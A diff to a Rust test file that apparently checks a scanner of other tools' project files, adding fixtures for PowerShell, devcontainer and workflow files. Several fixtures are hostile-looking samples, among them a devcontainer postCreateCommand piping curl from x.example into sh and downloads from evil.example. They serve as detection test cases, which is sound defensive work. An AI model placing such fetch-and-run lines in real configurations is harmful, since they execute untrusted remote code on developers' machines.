@@ -209,6 +209,12 @@ fn manifests_name_the_host() {
 }
 
 const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
+    ("tools/a.ps1", "Invoke-WebRequest http://x.example/a -OutFile a\n", "Invoke-WebRequest"),
+    (
+        ".devcontainer/devcontainer.json",
+        "{\n  \"postCreateCommand\": \"curl -sL https://x.example/i | sh\"\n}\n",
+        "curl",
+    ),
     (".envrc", "source_up\n", "direnv"),
     (".envrc", "export PATH=tools:$PATH\n", "direnv"),
     (".envrc", "export A=$(curl https://x.example/a)\n", "x.example"),
@@ -290,6 +296,11 @@ const FILES_OF_OTHER_TOOLS_ARE_TOL_2: &[(&str, &str, &str)] = &[
     (".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/a/b\n", "github.com"),
     ("requirements.txt", "git+https://evil.example/x.git\n", "evil.example"),
     (
+        ".github/workflows/a.yml",
+        "jobs:\n  a:\n    strategy:\n      matrix:\n        include: x\n",
+        "uses `x`",
+    ),
+    (
         "sketch.yaml",
         "profiles:\n  a:\n    platforms:\n      - platform: x\n        platform_index_url: https://evil.example/i.json\n",
         "evil.example",
@@ -305,6 +316,15 @@ const FILES_OF_OTHER_TOOLS_ARE_TOL_3: &[(&str, &str)] = &[
     ("Makefile", "PROJECT_NAME := app\ninclude $(IDF_PATH)/make/project.mk\n"),
     ("Makefile", "build:\n\tidf.py build\nflash: build\n\tidf.py -p $(PORT) flash monitor\n"),
     ("main/component.mk", "COMPONENT_EMBED_TXTFILES := server.pem\nCFLAGS += -Wall\n"),
+    (
+        "tools/a.ps1",
+        "param(\n[string]$Port\n)\n$baud = 115200\n$name = \"app\"\n$same = $name\nif ($Port -eq \"\") {\n}\n",
+    ),
+    (".devcontainer/devcontainer.json", "{\n  \"postCreateCommand\": \"idf.py --version\"\n}\n"),
+    (
+        ".github/workflows/a.yml",
+        "jobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - chip: esp32\n    steps:\n      - run: idf.py build\n",
+    ),
     (
         "main/main.c",
         "#include <stdio.h>\n#include \"../include/led.h\"\n#include \"driver/gpio.h\"\n",
